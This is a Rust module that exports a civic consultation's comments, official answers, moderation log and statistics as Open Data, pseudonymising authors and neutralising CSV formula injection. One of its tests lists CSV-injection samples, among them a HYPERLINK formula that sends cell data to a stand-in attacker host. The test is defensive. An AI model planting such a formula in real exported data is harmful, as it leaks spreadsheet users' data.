//! Open Data export of one consultation: the consultation, its comments with pseudonymised
//! authors (a salted hash, never a handle or Matrix id), official answers, the moderation log
//! with rule ids and versions, and statistics — as JSON and as CSV tables.
//! Only published comments carry their text; held, rejected, hidden and deleted ones are
//! counted and listed without it. Nothing in it re-identifies an author: no actor URL, no
//! status URL or object id of their post, no Matrix event or user id (each names the person).
//! Every CSV cell that a spreadsheet would run as a formula is neutralised (`csv_cell`).

use chrono::{DateTime, Utc};
use serde::Serialize;
use serde_json::{Value, json};

use crate::app::App;
use crate::entities::{CommentStatus, Network, comment};
use crate::error::{Error, Result};
use crate::markdown;
use crate::store::announcements::AnnouncementView;
use crate::store::comments::{self, CommentFilter};
use crate::store::{announcements, moderation, state};

/// One CSV table of the export; its CSV-on-the-Web description comes from the same columns,
/// so file and metadata cannot drift apart.
#[derive(Debug, Clone)]
pub struct Table {
    /// File name, e.g. `comments.csv`.
    pub file: &'static str,
    pub title_de: &'static str,
    pub title_en: &'static str,
    pub columns: &'static [Column],
    pub primary_key: Option<&'static str>,
    pub rows: Vec<Vec<String>>,
}

/// A column: its header, XSD datatype (CSVW built-in names) and a description.
#[derive(Debug, Clone, Copy)]
pub struct Column {
    pub name: &'static str,
    pub datatype: &'static str,
    pub description: &'static str,
}

const fn col(name: &'static str, datatype: &'static str, description: &'static str) -> Column {
    Column {
        name,
        datatype,
        description,
    }
}

const CONSULTATION_COLUMNS: &[Column] = &[
    col("id", "integer", "Nummer der Beteiligung"),
    col(
        "url",
        "anyURI",
        "Adresse der Beteiligung (Webseite und ActivityPub-Objekt)",
    ),
    col("title", "string", "Titel"),
    col("text", "string", "Text der Bekanntmachung"),
    col("published", "dateTime", "Veröffentlicht"),
    col("updated", "dateTime", "Zuletzt geändert"),
    col("opens", "dateTime", "Beginn der Beteiligung"),
    col("closes", "dateTime", "Geplantes Ende der Beteiligung"),
    col("closed_early", "dateTime", "Vorzeitig beendet"),
    col("retracted", "dateTime", "Zurückgezogen"),
    col(
        "result",
        "string",
        "Ergebnis / begründete Rückmeldung der Verwaltung",
    ),
    col("result_published", "dateTime", "Ergebnis veröffentlicht"),
];
const COMMENT_COLUMNS: &[Column] = &[
    col("id", "integer", "Nummer des Kommentars"),
    col("parent_id", "integer", "Antwort auf Kommentar"),
    col("network", "string", "Netz: fediverse oder matrix"),
    col(
        "author",
        "string",
        "Pseudonym der verfassenden Person (gesalzener Hash; nur bei veröffentlichten Kommentaren)",
    ),
    col("created_at", "dateTime", "Zeitpunkt des Kommentars"),
    col(
        "status",
        "string",
        "published, pending, rejected, hidden oder deleted",
    ),
    col(
        "late",
        "boolean",
        "Nach Ende der Beteiligung eingegangen (nicht gezählt)",
    ),
    col("rule_id", "string", "Regel der letzten Entscheidung"),
    col("rule_version", "integer", "Version dieser Regel"),
    col(
        "content_warning",
        "string",
        "Inhaltswarnung der verfassenden Person (nur bei veröffentlichten Kommentaren)",
    ),
    col(
        "sensitive",
        "boolean",
        "Von der verfassenden Person als heikel markiert",
    ),
    col(
        "text",
        "string",
        "Text (nur bei veröffentlichten Kommentaren)",
    ),
];
const ANSWER_COLUMNS: &[Column] = &[
    col("id", "integer", "Nummer der offiziellen Antwort"),
    col("comment_id", "integer", "Beantworteter Kommentar"),
    col("created_at", "dateTime", "Zeitpunkt"),
    col("url", "anyURI", "Adresse der Antwort (ActivityPub-Objekt)"),
    col("text", "string", "Text der Antwort"),
];
const LOG_COLUMNS: &[Column] = &[
    col("comment_id", "integer", "Betroffener Kommentar"),
    col(
        "action",
        "string",
        "Schritt, z. B. auto_publish, auto_hold, approve, reject, hide",
    ),
    col(
        "actor",
        "string",
        "policy (automatisch), moderation, cli oder author",
    ),
    col("rule_id", "string", "Angewandte Regel"),
    col("rule_version", "integer", "Version der Regel"),
    col("reason", "string", "Begründung"),
    col("created_at", "dateTime", "Zeitpunkt"),
];
/// A typed row whose serialised field names are its columns, in order; a test holds every
/// row type to its columns, so the JSON, the CSV and their descriptions cannot drift apart.
pub trait Row: Serialize {
    const COLUMNS: &'static [Column];
}

/// One comment of the export's `comments` table: public fields only (see the module doc).
#[derive(Debug, Clone, Serialize)]
pub struct PublicComment {
    pub id: i64,
    pub parent_id: Option<i64>,
    pub network: &'static str,
    pub author: String,
    pub created_at: DateTime<Utc>,
    pub status: &'static str,
    pub late: bool,
    pub rule_id: Option<String>,
    pub rule_version: Option<i32>,
    pub content_warning: Option<String>,
    pub sensitive: bool,
    pub text: Option<String>,
}

impl Row for PublicComment {
    const COLUMNS: &'static [Column] = COMMENT_COLUMNS;
}

impl PublicComment {
    /// The CSV cells, in column order; empty for absent values.
    fn cells(&self) -> Vec<String> {
        vec![
            self.id.to_string(),
            self.parent_id.map(|p| p.to_string()).unwrap_or_default(),
            self.network.into(),
            self.author.clone(),
            self.created_at.to_rfc3339(),
            self.status.into(),
            self.late.to_string(),
            self.rule_id.clone().unwrap_or_default(),
            self.rule_version.map(|v| v.to_string()).unwrap_or_default(),
            self.content_warning.clone().unwrap_or_default(),
            self.sensitive.to_string(),
            self.text.clone().unwrap_or_default(),
        ]
    }
}

/// One comment as moderators see it (`rathaus comments list --json`): everything stored
/// about it but its language and bookkeeping times, personal data included, so it is never
/// part of the Open Data.
#[derive(Debug, Clone, Serialize)]
pub struct CommentRow {
    pub id: i64,
    pub announcement_id: i64,
    pub parent_comment_id: Option<i64>,
    pub network: Network,
    pub status: CommentStatus,
    pub late: bool,
    pub author_id: String,
    pub author_name: Option<String>,
    pub author_domain: String,
    pub origin_id: String,
    pub origin_url: Option<String>,
    pub content: Option<String>,
    pub content_warning: Option<String>,
    pub sensitive: bool,
    pub rule_id: Option<String>,
    pub rule_version: Option<i32>,
    pub reason: Option<String>,
    pub created_at: DateTime<Utc>,
}

impl Row for CommentRow {
    const COLUMNS: &'static [Column] = &[
        col("id", "integer", "Nummer des Kommentars"),
        col(
            "announcement_id",
            "integer",
            "Bekanntmachung oder Beteiligung",
        ),
        col("parent_comment_id", "integer", "Antwort auf Kommentar"),
        col("network", "string", "Netz: fediverse oder matrix"),
        col(
            "status",
            "string",
            "published, pending, rejected, hidden oder deleted",
        ),
        col(
            "late",
            "boolean",
            "Nach Ende der Beteiligung eingegangen (nicht gezählt)",
        ),
        col(
            "author_id",
            "string",
            "ActivityPub-Akteur oder Matrix-Nutzer-ID der verfassenden Person",
        ),
        col("author_name", "string", "Angezeigter Name"),
        col("author_domain", "string", "Instanz oder Homeserver"),
        col(
            "origin_id",
            "string",
            "ActivityPub-Objekt-URI oder Matrix-Event-ID",
        ),
        col("origin_url", "anyURI", "Adresse des Beitrags beim Absender"),
        col(
            "content",
            "string",
            "Text (Markdown); leer, wenn die Person ihn gelöscht hat",
        ),
        col("content_warning", "string", "Inhaltswarnung (Klartext)"),
        col("sensitive", "boolean", "Als heikel markiert"),
        col("rule_id", "string", "Regel der letzten Entscheidung"),
        col("rule_version", "integer", "Version dieser Regel"),
        col("reason", "string", "Begründung der letzten Entscheidung"),
        col("created_at", "dateTime", "Zeitpunkt des Kommentars"),
    ];
}

impl From<&comment::Model> for CommentRow {
    fn from(c: &comment::Model) -> Self {
        Self {
            id: c.id,
            announcement_id: c.announcement_id,
            parent_comment_id: c.parent_comment_id,
            network: c.network,
            status: c.status,
            late: c.late,
            author_id: c.author_id.clone(),
            author_name: c.author_name.clone(),
            author_domain: c.author_domain.clone(),
            origin_id: c.origin_id.clone(),
            origin_url: c.origin_url.clone(),
            content: c.content.clone(),
            content_warning: c.content_warning.clone(),
            sensitive: c.sensitive,
            rule_id: c.rule_id.clone(),
            rule_version: c.rule_version,
            reason: c.reason.clone(),
            created_at: c.created_at,
        }
    }
}

const STATISTICS_COLUMNS: &[Column] = &[
    col("metric", "string", "Kennzahl"),
    col("value", "integer", "Anzahl"),
];

impl Table {
    /// The table as CSV (RFC 4180, UTF-8, header row first).
    pub fn to_csv(&self) -> Result<String> {
        let header: Vec<&str> = self.columns.iter().map(|c| c.name).collect();
        csv_string(&header, self.rows.clone())
    }

    fn csvw(&self) -> Value {
        let columns: Vec<Value> = self
            .columns
            .iter()
            .map(|c| {
                json!({"name": c.name, "titles": c.name, "datatype": c.datatype, "dc:description": c.description})
            })
            .collect();
        let mut schema = json!({ "columns": columns });
        if let Some(pk) = self.primary_key {
            schema["primaryKey"] = json!(pk);
        }
        json!({
            "url": self.file,
            "dc:title": [{"@value": self.title_de, "@language": "de"}, {"@value": self.title_en, "@language": "en"}],
            "dc:description": NEUTRALISED,
            "tableSchema": schema,
        })
    }
}

/// The export: JSON, the CSV tables, their CSVW metadata and the DCAT-AP.de description.
#[derive(Debug, Clone)]
pub struct Export {
    pub id: i64,
    pub json: Value,
    pub tables: Vec<Table>,
    /// `csv-metadata.json` (CSV on the Web), describing every table by its file name.
    pub csvw: Value,
    /// DCAT-AP.de dataset as JSON-LD.
    pub dcat: Value,
}

impl Export {
    pub fn table(&self, file: &str) -> Option<&Table> {
        self.tables.iter().find(|t| t.file == file)
    }

    /// Every file of the export: (name, media type), in a stable order.
    pub fn listing(&self) -> Vec<(&'static str, &'static str)> {
        let mut files = vec![("consultation.json", "application/json")];
        files.extend(
            self.tables
                .iter()
                .map(|t| (t.file, "text/csv; charset=utf-8")),
        );
        files.push(("csv-metadata.json", "application/csvm+json"));
        files.push(("dcat.jsonld", "application/ld+json"));
        files
    }

    /// One file's bytes, rendered on demand; `None` when the export has no such file.
    pub fn file(&self, name: &str) -> Result<Option<Vec<u8>>> {
        let pretty =
            |v: &Value| serde_json::to_vec_pretty(v).map_err(|e| Error::Invalid(e.to_string()));
        Ok(Some(match name {
            "consultation.json" => pretty(&self.json)?,
            "csv-metadata.json" => pretty(&self.csvw)?,
            "dcat.jsonld" => pretty(&self.dcat)?,
            _ => match self.table(name) {
                Some(t) => t.to_csv()?.into_bytes(),
                None => return Ok(None),
            },
        }))
    }
}

/// Where the export's files are served: `{base}/open-data/{id}/`.
pub fn download_base(urls: &crate::apub::Urls, id: i64) -> String {
    format!("{}/open-data/{id}/", urls.base())
}

/// An optional URL setting as text: empty when not set, as the file writes it.
fn url_or_empty(url: &Option<url::Url>) -> &str {
    url.as_ref().map_or("", url::Url::as_str)
}

/// A stable pseudonym: the first 16 hex digits of SHA-256(salt ‖ author id).
pub fn pseudonym(salt: &str, author_id: &str) -> String {
    let mut full = state::salted_hash(salt, author_id);
    full.truncate(16);
    full
}

/// What the CSVW metadata says about `csv_cell`, so readers can undo it.
const NEUTRALISED: &str = "Zellen, die mit =, +, -, @, Tabulator oder Wagenrücklauf beginnen, ist ein Apostroph (') vorangestellt, damit Tabellenkalkulationen sie nicht als Formel ausführen (OWASP CSV Injection).";

/// A cell a spreadsheet would run as a formula (or as DDE) starts with one of these (OWASP).
const FORMULA_PREFIXES: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV cell that no spreadsheet runs: a dangerous first character gets a `'` in front. The
/// writer quotes every cell, so the apostrophe stays part of the value.
pub fn csv_cell(value: &str) -> std::borrow::Cow<'_, str> {
    if value.starts_with(FORMULA_PREFIXES) {
        std::borrow::Cow::Owned(format!("'{value}"))
    } else {
        std::borrow::Cow::Borrowed(value)
    }
}

/// Every CSV the project writes goes through here: header first, every cell neutralised and
/// quoted (RFC 4180).
pub fn csv_string(header: &[&str], rows: Vec<Vec<String>>) -> Result<String> {
    let bytes = csv_bytes(Some(header), &rows)?;
    String::from_utf8(bytes).map_err(|e| Error::Invalid(e.to_string()))
}

/// Rows as CSV (with the header row if given): the one writer.
fn csv_bytes(header: Option<&[&str]>, rows: &[Vec<String>]) -> Result<Vec<u8>> {
    let mut w = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    if let Some(header) = header {
        w.write_record(header)
            .map_err(|e| Error::Invalid(e.to_string()))?;
    }
    for row in rows {
        w.write_record(row.iter().map(|cell| csv_cell(cell).into_owned()))
            .map_err(|e| Error::Invalid(e.to_string()))?;
    }
    w.into_inner().map_err(|e| Error::Invalid(e.to_string()))
}

/// Comments per page of a streamed download.
const STREAM_PAGE: u64 = 500;

/// Where a streamed download stands: after this comment (its time and id), oldest first.
pub type StreamCursor = Option<(DateTime<Utc>, i64)>;

/// The tables that grow with the comments: they are streamed page by page, so a download of a
/// large consultation holds one page in memory, not the whole table.
pub fn streamed_columns(file: &str) -> Option<&'static [Column]> {
    match file {
        "comments.csv" => Some(COMMENT_COLUMNS),
        "answers.csv" => Some(ANSWER_COLUMNS),
        "moderation-log.csv" => Some(LOG_COLUMNS),
        _ => None,
    }
}

/// The header row of a streamed table.
pub fn stream_header(file: &str) -> Result<Vec<u8>> {
    let columns = streamed_columns(file)
        .ok_or_else(|| Error::NotFound(format!("no streamed table {file}")))?;
    let header: Vec<&str> = columns.iter().map(|c| c.name).collect();
    csv_bytes(Some(&header), &[])
}

/// The next page of streamed table `file` of consultation `id` after `after`: its CSV rows
/// (as in [`consultation`]'s table) and where the next page starts; `None` at the end.
pub async fn stream_page(
    app: &App,
    id: i64,
    file: &str,
    after: StreamCursor,
) -> Result<Option<(Vec<u8>, StreamCursor)>> {
    if streamed_columns(file).is_none() {
        return Err(Error::NotFound(format!("no streamed table {file}")));
    }
    let db = app.store.db();
    let page = comments::exported_after(db, id, after, STREAM_PAGE).await?;
    let Some(last) = page.last() else {
        return Ok(None);
    };
    let next = Some((last.created_at, last.id));
    let salt = state::pseudonym_salt(db).await?;
    let rows = page_rows(db, &salt, &app.urls(), &page).await?;
    let table = match file {
        "comments.csv" => rows.comment_rows,
        "answers.csv" => rows.answer_rows,
        _ => rows.log_rows,
    };
    Ok(Some((csv_bytes(None, &table)?, next)))
}

/// The rows of every table (and the JSON items) for one page of a consultation's comments.
#[derive(Debug, Default)]
struct Rows {
    comment_items: Vec<PublicComment>,
    comment_rows: Vec<Vec<String>>,
    answer_items: Vec<Value>,
    answer_rows: Vec<Vec<String>>,
    log_items: Vec<Value>,
    log_rows: Vec<Vec<String>>,
}

async fn page_rows<C: sea_orm::ConnectionTrait>(
    db: &C,
    salt: &str,
    urls: &crate::apub::Urls,
    page: &[comment::Model],
) -> Result<Rows> {
    let mut out = Rows::default();
    let Rows {
        comment_items,
        comment_rows,
        answer_items,
        answer_rows,
        log_items,
        log_rows,
    } = &mut out;
    // Two queries for all comments' answers and log steps, not two per comment.
    let ids: Vec<i64> = page.iter().map(|c| c.id).collect();
    let mut answers_of: std::collections::HashMap<i64, Vec<_>> = Default::default();
    for answer in comments::answers_for_comments(db, &ids).await? {
        answers_of
            .entry(answer.comment_id)
            .or_default()
            .push(answer);
    }
    let mut actions_of: std::collections::HashMap<i64, Vec<_>> = Default::default();
    for action in moderation::actions_for_comments(db, &ids).await? {
        if let Some(id) = action.comment_id {
            actions_of.entry(id).or_default().push(action);
        }
    }
    for c in page {
        let text = (c.status == CommentStatus::Published)
            .then(|| c.content.as_deref().map(markdown::to_plain_text))
            .flatten();
        let network = match c.network {
            Network::Fediverse => "fediverse",
            Network::Matrix => "matrix",
        };
        // Only published comments carry a pseudonym: on the others it would link a person's
        // held, rejected or deleted comments to their public ones.
        let author = if c.status == CommentStatus::Published {
            pseudonym(salt, &c.author_id)
        } else {
            String::new()
        };
        // No origin: a status URL, object id or Matrix event id leads straight to its author.
        let content_warning = (c.status == CommentStatus::Published)
            .then(|| c.content_warning.clone())
            .flatten();
        let row = PublicComment {
            id: c.id,
            parent_id: c.parent_comment_id,
            network,
            author,
            created_at: c.created_at,
            status: c.status.as_str(),
            late: c.late,
            rule_id: c.rule_id.clone(),
            rule_version: c.rule_version,
            content_warning,
            sensitive: c.sensitive,
            text,
        };
        comment_rows.push(row.cells());
        comment_items.push(row);
        for answer in answers_of.remove(&c.id).unwrap_or_default() {
            let text = markdown::to_plain_text(&answer.body_html);
            answer_items.push(json!({"id": answer.id, "comment_id": c.id, "created_at": answer.created_at, "url": urls.answer(answer.id), "text": text}));
            answer_rows.push(vec![
                answer.id.to_string(),
                c.id.to_string(),
                answer.created_at.to_rfc3339(),
                urls.answer(answer.id),
                text,
            ]);
        }
        for action in actions_of.remove(&c.id).unwrap_or_default() {
            // Who moderated is an office's act; the author's own steps name no person.
            let actor = match action.actor.as_str() {
                "policy" | "author" | "cli" => action.actor.clone(),
                _ => "moderation".to_owned(),
            };
            log_items.push(json!({"comment_id": c.id, "action": action.action, "actor": actor, "rule_id": action.rule_id, "rule_version": action.rule_version, "reason": action.reason, "created_at": action.created_at}));
            log_rows.push(vec![
                c.id.to_string(),
                action.action.as_str().to_owned(),
                actor,
                action.rule_id.clone().unwrap_or_default(),
                action
                    .rule_version
                    .map(|v| v.to_string())
                    .unwrap_or_default(),
                action.reason.clone().unwrap_or_default(),
                action.created_at.to_rfc3339(),
            ]);
        }
    }
    Ok(out)
}

pub async fn consultation(app: &App, id: i64) -> Result<Export> {
    let db = app.store.db();
    let view = announcements::get_announcement(db, id)
        .await?
        .ok_or_else(|| Error::NotFound(format!("announcement {id}")))?;
    let salt = state::pseudonym_salt(db).await?;
    let urls = app.urls();
    let rows = comments::list_comments(
        db,
        &CommentFilter {
            announcement_id: Some(id),
            ..Default::default()
        },
    )
    .await?;
    let a = &view.announcement;

    let Rows {
        comment_items,
        comment_rows,
        answer_items,
        answer_rows,
        log_items,
        log_rows,
    } = page_rows(db, &salt, &urls, &rows).await?;
    let count = |s: CommentStatus| rows.iter().filter(|c| c.status == s && !c.late).count();
    let (likes, boosts) = crate::store::inbox::reach_of(app.store.db(), a.id).await?;
    let statistics = [
        ("comments", rows.len()),
        ("published", count(CommentStatus::Published)),
        ("held", count(CommentStatus::Pending)),
        ("rejected", count(CommentStatus::Rejected)),
        ("hidden", count(CommentStatus::Hidden)),
        ("deleted_by_author", count(CommentStatus::Deleted)),
        ("late", rows.iter().filter(|c| c.late).count()),
        (
            "fediverse",
            rows.iter()
                .filter(|c| c.network == Network::Fediverse)
                .count(),
        ),
        (
            "matrix",
            rows.iter().filter(|c| c.network == Network::Matrix).count(),
        ),
        ("official_answers", answer_rows.len()),
        // Reach in the fediverse: counted, never who.
        ("likes", usize::try_from(likes).unwrap_or(usize::MAX)),
        ("boosts", usize::try_from(boosts).unwrap_or(usize::MAX)),
    ];
    let consultation = view.consultation.as_ref();
    let result = consultation.and_then(|c| c.result_html.as_deref().map(markdown::to_plain_text));
    let time =
        |t: Option<chrono::DateTime<chrono::Utc>>| t.map(|t| t.to_rfc3339()).unwrap_or_default();
    let text = markdown::to_plain_text(&a.body_html);
    let licence = url_or_empty(&app.config.site.licence).to_owned();
    let json = json!({
        "consultation": {
            "id": a.id, "url": urls.announcement(a.id), "title": a.title,
            "text": text, "published": a.created_at,
            "updated": a.updated_at, "retracted": a.retracted_at,
            "opens": consultation.map(|c| c.opens_at),
            "closes": consultation.map(|c| c.closes_at),
            "closed_early": consultation.and_then(|c| c.closed_at),
            "result": result,
            "result_published": consultation.and_then(|c| c.result_at),
        },
        "comments": comment_items,
        "official_answers": answer_items,
        "moderation_log": log_items,
        "statistics": statistics.iter().map(|(k, v)| (k.to_string(), json!(v))).collect::<serde_json::Map<_, _>>(),
        "licence": licence,
    });
    let consultation_row = vec![
        a.id.to_string(),
        urls.announcement(a.id),
        a.title.clone().unwrap_or_default(),
        text,
        a.created_at.to_rfc3339(),
        a.updated_at.to_rfc3339(),
        time(consultation.map(|c| c.opens_at)),
        time(consultation.map(|c| c.closes_at)),
        time(consultation.and_then(|c| c.closed_at)),
        time(a.retracted_at),
        result.unwrap_or_default(),
        time(consultation.and_then(|c| c.result_at)),
    ];
    let tables = vec![
        Table {
            file: "consultation.csv",
            title_de: "Beteiligung",
            title_en: "Consultation",
            columns: CONSULTATION_COLUMNS,
            primary_key: Some("id"),
            rows: vec![consultation_row],
        },
        Table {
            file: "comments.csv",
            title_de: "Kommentare",
            title_en: "Comments",
            columns: COMMENT_COLUMNS,
            primary_key: Some("id"),
            rows: comment_rows,
        },
        Table {
            file: "answers.csv",
            title_de: "Offizielle Antworten",
            title_en: "Official answers",
            columns: ANSWER_COLUMNS,
            primary_key: Some("id"),
            rows: answer_rows,
        },
        Table {
            file: "moderation-log.csv",
            title_de: "Moderationsprotokoll",
            title_en: "Moderation log",
            columns: LOG_COLUMNS,
            primary_key: None,
            rows: log_rows,
        },
        Table {
            file: "statistics.csv",
            title_de: "Statistik",
            title_en: "Statistics",
            columns: STATISTICS_COLUMNS,
            primary_key: Some("metric"),
            rows: statistics
                .iter()
                .map(|(k, v)| vec![k.to_string(), v.to_string()])
                .collect(),
        },
    ];
    let title = a
        .title
        .clone()
        .unwrap_or_else(|| format!("Beteiligung {}", a.id));
    let publisher = app.config.site.publisher(&app.config.actor).to_owned();
    let csvw = json!({
        "@context": ["http://www.w3.org/ns/csvw", {"@language": "de"}],
        "dc:title": format!("{title} – Offene Daten"),
        "dc:publisher": publisher,
        "dc:license": {"@id": licence},
        "tables": tables.iter().map(Table::csvw).collect::<Vec<_>>(),
    });
    let dcat = dcat_dataset(app, &view, &title, &tables);
    Ok(Export {
        id,
        json,
        tables,
        csvw,
        dcat,
    })
}

/// The EU file-type vocabulary DCAT-AP.de asks for.
const EU_FILE_TYPE: &str = "http://publications.europa.eu/resource/authority/file-type/";

/// DCAT-AP.de description of one consultation's dataset, as JSON-LD.
fn dcat_dataset(app: &App, view: &AnnouncementView, title: &str, tables: &[Table]) -> Value {
    let urls = app.urls();
    let a = &view.announcement;
    let base = download_base(&urls, a.id);
    let site = &app.config.site;
    let publisher = site.publisher(&app.config.actor);
    let distribution = |file: &str, title_de: &str, format: &str, media: &str| {
        json!({
            "@type": "dcat:Distribution",
            "@id": format!("{base}{file}"),
            "dct:title": {"@value": title_de, "@language": "de"},
            "dcat:accessURL": {"@id": format!("{base}{file}")},
            "dcat:downloadURL": {"@id": format!("{base}{file}")},
            "dct:format": {"@id": format!("{EU_FILE_TYPE}{format}")},
            "dcat:mediaType": media,
            "dct:license": {"@id": url_or_empty(&site.licence)},
            "dcatde:licenseAttributionByText": publisher,
        })
    };
    let mut distributions = vec![distribution(
        "consultation.json",
        "Beteiligung mit Kommentaren, Antworten, Protokoll und Statistik (JSON)",
        "JSON",
        "application/json",
    )];
    for t in tables {
        distributions.push(distribution(
            t.file,
            &format!("{} (CSV)", t.title_de),
            "CSV",
            "text/csv",
        ));
    }
    distributions.push(distribution(
        "csv-metadata.json",
        "Beschreibung der CSV-Tabellen (CSV on the Web)",
        "JSON",
        "application/csvm+json",
    ));
    let mut dataset = json!({
        "@context": {
            "dcat": "http://www.w3.org/ns/dcat#",
            "dct": "http://purl.org/dc/terms/",
            "dcatde": "http://dcat-ap.de/def/dcatde/",
            "foaf": "http://xmlns.com/foaf/0.1/",
            "xsd": "http://www.w3.org/2001/XMLSchema#",
        },
        "@id": format!("{base}#dataset"),
        "@type": "dcat:Dataset",
        "dct:title": {"@value": format!("Beteiligung: {title}"), "@language": "de"},
        "dct:description": {
            "@value": format!("Öffentliche Beteiligung „{title}“ von {publisher}: veröffentlichte Kommentare (Autorinnen und Autoren pseudonymisiert), offizielle Antworten, Moderationsprotokoll mit Regeln und Statistik."),
            "@language": "de",
        },
        "dct:publisher": {"@type": "foaf:Organization", "foaf:name": publisher},
        "dct:issued": {"@value": a.created_at.to_rfc3339(), "@type": "xsd:dateTime"},
        "dct:modified": {"@value": a.updated_at.to_rfc3339(), "@type": "xsd:dateTime"},
        "dcat:landingPage": {"@id": urls.announcement(a.id)},
        "dcat:theme": {"@id": "http://publications.europa.eu/resource/authority/data-theme/GOVE"},
        "dcat:keyword": ["Bürgerbeteiligung", "Open Government", "Konsultation"],
        "dct:language": {"@id": "http://publications.europa.eu/resource/authority/language/DEU"},
        "dcat:distribution": distributions,
    });
    if let Some(uri) = &site.political_geocoding_uri {
        dataset["dcatde:politicalGeocodingURI"] = json!({"@id": uri.as_str()});
    }
    dataset
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The serialised field names of `row`, in order.
    fn keys<R: Row>(row: &R) -> Vec<String> {
        // serde_json's map sorts its keys; a CSV header keeps the fields' order.
        let mut w = csv::Writer::from_writer(Vec::new());
        w.serialize(row).expect("serialise");
        let text = String::from_utf8(w.into_inner().expect("flush")).expect("utf-8");
        text.lines()
            .next()
            .expect("header")
            .split(',')
            .map(str::to_owned)
            .collect()
    }

    fn names(columns: &[Column]) -> Vec<String> {
        columns.iter().map(|c| c.name.to_owned()).collect()
    }

    #[test]
    fn typed_rows_match_their_column_definitions() {
        let t = DateTime::parse_from_rfc3339("2026-07-01T10:00:00Z")
            .expect("time")
            .with_timezone(&Utc);
        let public = PublicComment {
            id: 1,
            parent_id: Some(2),
            network: "matrix",
            author: "a".into(),
            created_at: t,
            status: "published",
            late: false,
            rule_id: Some("r".into()),
            rule_version: Some(1),
            content_warning: Some("cw".into()),
            sensitive: true,
            text: Some("x".into()),
        };
        assert_eq!(keys(&public), names(PublicComment::COLUMNS));
        assert_eq!(public.cells().len(), PublicComment::COLUMNS.len());
        let row = CommentRow {
            id: 1,
            announcement_id: 2,
            parent_comment_id: Some(3),
            network: Network::Fediverse,
            status: CommentStatus::Pending,
            late: true,
            author_id: "https://social.example/users/ursula".into(),
            author_name: Some("Ursula".into()),
            author_domain: "social.example".into(),
            origin_id: "https://social.example/notes/1".into(),
            origin_url: Some("https://social.example/@ursula/1".into()),
            content: Some("x".into()),
            content_warning: None,
            sensitive: false,
            rule_id: Some("r".into()),
            rule_version: Some(1),
            reason: Some("why".into()),
            created_at: t,
        };
        assert_eq!(keys(&row), names(CommentRow::COLUMNS));
        // The names `comments list --json` has always printed.
        let json = serde_json::to_value(&row).expect("json");
        assert_eq!(json["network"], "fediverse");
        assert_eq!(json["status"], "pending");
        assert_eq!(json["created_at"], "2026-07-01T10:00:00Z");
    }

    #[test]
    fn every_formula_prefix_is_neutralised_and_quoted() {
        let dangerous = [
            "=1+1",
            "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"klick\")",
            "+49 30 1234",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ];
        let rows: Vec<Vec<String>> = dangerous
            .iter()
            .map(|d| vec![(*d).to_owned(), "harmlos".to_owned()])
            .collect();
        let text = csv_string(&["a", "b"], rows).expect("csv");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let read: Vec<String> = reader
            .records()
            .map(|r| r.expect("record")[0].to_owned())
            .collect();
        assert_eq!(read.len(), dangerous.len());
        for (cell, original) in read.iter().zip(dangerous) {
            assert_eq!(
                cell,
                &format!("'{original}"),
                "read back with the apostrophe"
            );
        }
        // Every cell is quoted in the file itself, the header too.
        for line in text.lines().filter(|l| !l.is_empty()) {
            assert!(line.starts_with('"'), "unquoted: {line:?}");
        }
        assert!(text.contains("\"'=1+1\""), "{text}");
        for harmless in [
            "1+1",
            "Bäume",
            "",
            "a=b",
            " =x",
            "'quoted",
            "2026-12-03T10:00:00+00:00",
        ] {
            assert_eq!(csv_cell(harmless), harmless);
        }
    }

    #[test]
    fn pseudonyms_are_stable_salted_and_opaque() {
        let a = pseudonym("salt", "https://social.example/users/ursula");
        assert_eq!(a, pseudonym("salt", "https://social.example/users/ursula"));
        assert_ne!(a, pseudonym("other", "https://social.example/users/ursula"));
        assert_ne!(a, pseudonym("salt", "@ursula:example.org"));
        assert_eq!(a.len(), 16);
        assert!(!a.contains("ursula"));
    }
}
